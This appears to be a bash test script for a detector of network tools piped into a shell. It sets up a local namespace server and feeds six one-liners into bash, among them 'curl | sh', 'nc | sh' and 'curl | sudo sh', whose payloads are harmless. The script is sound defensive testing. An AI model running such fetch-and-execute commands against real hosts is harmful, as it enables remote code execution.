#!/bin/bash
# desc: a script from another host piped straight into a shell, typed into an interactive shell: curl | sh, wget -O- | bash, nc | sh, curl | python3, and through a program that starts the shell as its child (curl | sudo sh, wget -O- | timeout 10 bash)
# mitre: T1059.004, T1105, T1071
# expect: network_tool_piped_to_shell*6
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

netns_create
mkdir www && printf 'id >/dev/null\n' >www/i.sh && printf 'import os\nos.getuid()\n' >www/i.py
in_ns /usr/bin/python3 -m http.server --bind "$PEER" --directory www 8080 >/dev/null 2>&1 &
wait_listen "$PEER" 8080
printf 'id >/dev/null\n' | in_ns timeout 15 nc -lN "$PEER" 9000 >/dev/null &
listener=$!
wait_listen "$PEER" 9000
u=http://$PEER:8080
printf '%s\n' "curl -fsSL $u/i.sh | sh" "wget -qO- $u/i.sh | bash" "nc -d $PEER 9000 | sh" \
	"curl -s $u/i.py | python3" "curl -fsSL $u/i.sh | sudo sh" \
	"wget -qO- $u/i.sh | timeout 10 bash" exit | bash --norc -i >/dev/null 2>&1 || true
wait "$listener" || true
